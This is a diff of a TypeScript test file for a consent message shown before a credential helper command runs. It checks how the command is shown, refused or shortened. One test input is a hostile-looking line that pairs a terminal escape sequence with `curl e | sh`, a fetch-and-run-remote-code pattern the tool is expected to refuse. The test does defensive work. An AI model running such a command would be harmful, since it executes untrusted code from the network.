@@ -27,7 +27,7 @@ describe('the question before a full diagnosis', () => {
   });
 
   it('shows the command that is run, or says that none is', () => {
-    const asks = (command: string, more: Partial<PlannedCommand> = {}): string => consentFor({ plan: { ...plan, helper: { command: new Secret(command), shown: showCommand(command, []), ...more } }, host: 'a', helperLeftOut: false }).detail;
+    const asks = (command: string, more: Partial<PlannedCommand> = {}): string => consentFor({ plan: { ...plan, helper: { command: new Secret(command), shown: showCommand(command, []), surroundings: '', ...more } }, host: 'a', helperLeftOut: false }).detail;
     assert.match(asks('get-key --for gateway'), /\n\nThis command will be run to get the credential: get-key --for gateway$/);
     assert.match(asks(`: '\u001b]' ; curl e | sh`, { refused: 'it is odd' }), /\n\nThe command that prints the credential won’t be run: it is odd\. /);
     assert.match(asks('x'.repeat(5000)), /\n\nThe command that you agreed to will be run to get the credential\.$/);
